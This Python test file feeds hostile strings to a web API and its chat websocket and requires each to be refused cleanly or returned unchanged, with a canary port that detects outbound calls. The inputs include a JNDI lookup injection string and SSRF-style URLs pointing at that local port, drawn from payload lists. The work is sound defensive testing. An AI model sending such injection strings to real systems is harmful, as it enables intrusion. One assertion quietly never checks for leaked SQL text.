"""Strings that broke others, through every door: refused in the contract's form, or stored and read back exactly.

What the contract changes is changed here, too: names are trimmed and composed (NFC), titles and messages are trimmed.
"""

import asyncio
import json
import os
import unicodedata
from collections.abc import AsyncIterator, Awaitable, Callable, Iterable
from contextlib import asynccontextmanager
from functools import partial
from operator import itemgetter
from pathlib import Path
from urllib.parse import quote

from httpx import AsyncClient, Response

from tests.factories import User, make_user
from tests.processes import LiveServer
from tests.rooms import Visitor, make_room, visit

AT_ONCE = 8
ALL = "FUZZ_EXAMPLES" in os.environ  # else each string is stored in one place of three, and looked for in one of six
V1 = "/api/v1"


@asynccontextmanager
async def canary() -> AsyncIterator[tuple[int, list[str]]]:
    """A port on which nobody has any business, and who came there nevertheless."""
    visits: list[str] = []

    async def note(_: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        visits.append(str(writer.get_extra_info("peername")))
        writer.close()

    server = await asyncio.start_server(note, "127.0.0.1", 0)
    async with server:
        yield server.sockets[0].getsockname()[1], visits


def hostile(folder: Path, port: int) -> list[str]:
    lines = [line for path in sorted((folder / "payloads").glob("*.txt")) for line in path.read_text().splitlines()]
    blns: list[str] = json.loads((folder / "blns" / "blns.json").read_text())
    urls = [f"http://127.0.0.1:{port}/", f"//127.0.0.1:{port}/x", f"${{jndi:ldap://127.0.0.1:{port}/a}}"]
    return list(dict.fromkeys([*lines, *blns, *urls, "\0", "a\0b", "\u202eevil", "x" * 100_000]))


def is_sendable(value: str) -> bool:
    """HTTP permits visible ASCII, and spaces inside."""
    return value.isascii() and value.isprintable() and value == value.strip() and len(value) < 8000


async def at_once(calls: Iterable[Awaitable[None]]) -> None:
    """A few at a time; the first failure ends all."""
    turns = asyncio.Semaphore(AT_ONCE)

    async def wait_and(call: Awaitable[None]) -> None:
        async with turns:
            await call

    await asyncio.gather(*(wait_and(call) for call in calls))


def require_refusal(response: Response, text: str) -> None:
    """An error of the client's, in the form of every error."""
    assert 400 <= response.status_code < 500, (text[:200], response.status_code, response.text[:500])
    body = response.json()
    assert set(body) == {"error", "request_id", "timestamp"}, body
    told = json.dumps(body)
    assert not {"asyncpg", "sqlalchemy", "SELECT ", "Traceback"} & {
        word for word in ("asyncpg", "sqlalchemy", "Traceback") if word in told
    }


class Door:
    """One signed-in person, and what became of the strings it sent."""

    def __init__(self, client: AsyncClient, owner: User, room: str) -> None:
        self.client, self.headers, self.room = client, owner.headers, room
        self.stored = self.refused = 0

    async def store(
        self, method: str, path: str, body: dict, text: str, read: Callable[[dict], object], *, kept: object
    ) -> None:
        """What was accepted reads back as `kept`."""
        response = await self.client.request(method, V1 + path, json=body, headers=self.headers)
        if not response.is_success:
            self.refused += 1
            return require_refusal(response, text)
        self.stored += 1
        assert read(response.json()) == kept, (path, text[:200])
        location = response.headers.get("Location", V1 + path if method == "PATCH" else "")
        if location and (ALL or self.stored % 3 == 0):
            again = await self.client.get(location, headers=self.headers)
            found = again.json()
            found = found["items"][0] if "items" in found else found
            assert read(found) == kept, (path, text[:200])
        return None

    async def ask(self, method: str, path: str, text: str, **options: object) -> None:
        """Whatever it answers, it is no failure of the server's."""
        response = await self.client.request(method, V1 + path, **options)
        if response.status_code >= 400:
            require_refusal(response, text)


def named(text: str) -> str:
    return unicodedata.normalize("NFC", text.strip())


async def pass_through(door: Door, text: str, number: int, documents: "asyncio.Queue[str]") -> None:
    stored = stores(door, text, documents)
    for store in stored if ALL else [stored[number % len(stored)]]:
        await store()
    asked = asks(door, text)
    for ask in asked if ALL else [asked[number % len(asked)]]:
        await ask()


def stores(door: Door, text: str, documents: "asyncio.Queue[str]") -> list[Callable[[], Awaitable[None]]]:
    """Where the string is kept, and read back."""

    async def as_project() -> None:
        kept = (named(text), text[:2000])
        project = {"name": text, "description": text[:2000]}
        await door.store("POST", "/projects", project, text, itemgetter("name", "description"), kept=kept)

    async def as_message() -> None:
        path = f"/chat/{door.room}/messages"
        await door.store("POST", path, {"text": text}, text, itemgetter("text"), kept=text.strip())

    async def as_metadata() -> None:
        document = await documents.get()
        changes = {"title": text, "metadata": {text: [text, {"deep": text}]}}
        kept = (text.strip(), changes["metadata"])
        await door.store("PATCH", f"/documents/{document}", changes, text, itemgetter("title", "metadata"), kept=kept)
        documents.put_nowait(document)

    return [as_project, as_message, as_metadata]


def asks(door: Door, text: str) -> list[Callable[[], Awaitable[None]]]:
    """Where the string is only looked for, or stands in a header."""
    headers, query = door.headers, dict.fromkeys(("q", "cursor", "media_type"), text[:4000])
    found = [
        partial(door.ask, "POST", "/search", text, json={"query": text}, headers=headers),
        partial(door.ask, "GET", "/documents", text, params=query, headers=headers),
        partial(door.ask, "GET", f"/documents/{quote(text, safe='')[:4000]}", text, headers=headers),
        partial(door.ask, "POST", "/auth/login", text, data={"username": text, "password": text}),
    ]
    if is_sendable(text):
        known = {"X-Request-ID": text, "If-None-Match": text, "User-Agent": text}
        unknown = {"X-Request-ID": text, "X-API-Key": text, "Authorization": text}
        found.append(partial(door.ask, "GET", "/users/me", text, headers=headers | known))
        found.append(partial(door.ask, "GET", "/users/me", text, headers=unknown))
    return found


async def upload_texts(door: Door, texts: list[str]) -> list[str]:
    """What is read back of each document is the very text; returns their ids."""
    ids = []
    for text in texts:
        made = await door.client.post(f"{V1}/documents", json={"text": text, "title": "T"}, headers=door.headers)
        assert made.is_success, made.text[:500]
        ids.append(made.json()["document"]["id"])
        original = await door.client.get(f"{V1}/documents/{ids[-1]}/content", headers=door.headers)
        assert original.content.decode() == text
    return ids


async def upload_names(door: Door, texts: list[str]) -> None:
    for number, text in enumerate(texts):
        files = {"file": (text, f"file {number}".encode(), "text/plain")}
        response = await door.client.post(f"{V1}/documents", files=files, headers=door.headers)
        if not response.is_success:
            require_refusal(response, text)
            continue
        stored = response.json()["document"]["filename"]
        assert stored is None or not ({"/", "\\", "\0", "\n", "\r"} & set(stored)), (text[:200], stored)


async def test_hostile_strings_are_refused_or_come_back_as_they_were(live: LiveServer, shared_data: Path):
    async with canary() as (port, visits), live.client() as client:
        owner = await make_user(client, name="Mallory")
        door = Door(client, owner, await make_room(client, owner))
        texts = hostile(shared_data, port)
        assert len(texts) > 700
        storable = [text for text in texts if "\0" not in text]
        documents: asyncio.Queue[str] = asyncio.Queue()
        for name in await upload_texts(door, ["\n".join(storable[turn::AT_ONCE]) for turn in range(AT_ONCE)]):
            documents.put_nowait(name)
        await at_once(pass_through(door, text, number, documents) for number, text in enumerate(texts))
        await upload_names(door, [text for text in texts if len(text) < 1000][::40])
        assert min(door.stored, door.refused) > 20
        assert (await client.get(f"{V1}/users/me", headers=owner.headers)).status_code == 200
    assert visits == []


async def answer_to(visitor: Visitor) -> dict:
    while (frame := await visitor.next())["type"] not in {"message_received", "error"}:
        pass
    return frame


async def test_hostile_strings_in_frames_are_messages_or_errors_and_the_connection_lives_on(
    live: LiveServer, shared_data: Path
):
    async with canary() as (port, visits), live.client() as client:
        owner = await make_user(client, name="Mallory")
        room = await make_room(client, owner)
        async with visit(live, f"chat/{room}", owner.headers) as visitor:
            await visitor.next_of("welcome")
            for text in [text for text in hostile(shared_data, port) if len(text) < 10_000]:
                await visitor.say(text)
                answer = await answer_to(visitor)
                assert answer["type"] == "error" or answer["text"] == text.strip(), text
                await visitor.send(text, text=text)
                assert (await answer_to(visitor))["type"] == "error"
            await visitor.send("ping")
            await visitor.next_of("pong")
    assert visits == []
